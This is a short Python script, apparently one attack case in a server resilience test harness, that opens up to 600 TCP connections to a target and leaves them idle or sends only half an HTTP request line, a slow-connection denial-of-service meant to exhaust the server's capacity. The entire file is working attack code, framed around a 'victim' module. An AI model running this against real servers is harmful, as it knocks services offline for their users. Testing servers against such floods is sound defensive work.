"""Opens six hundred connections and says nothing on them, or half a request, hoping that there is no place left."""

import contextlib
import resource
import socket

from victim import attack

crowd: list[socket.socket] = []


few, many = resource.getrlimit(resource.RLIMIT_NOFILE)


def crowd_in(address: tuple[str, int]) -> str:
    resource.setrlimit(resource.RLIMIT_NOFILE, (1000, many))  # descriptors, for the crowd and the rank together
    for number in range(600):
        with contextlib.suppress(OSError):
            crowd.append(socket.create_connection(address, timeout=1.0))
            crowd[-1].send(b"GET /v1/version HTTP/1.1\r\nHost:" if number % 2 else b"")
    return f"{len(crowd)} idle connections"


try:
    attack(crowd_in)
finally:
    resource.setrlimit(resource.RLIMIT_NOFILE, (few, many))
    for connection in crowd:
        connection.close()
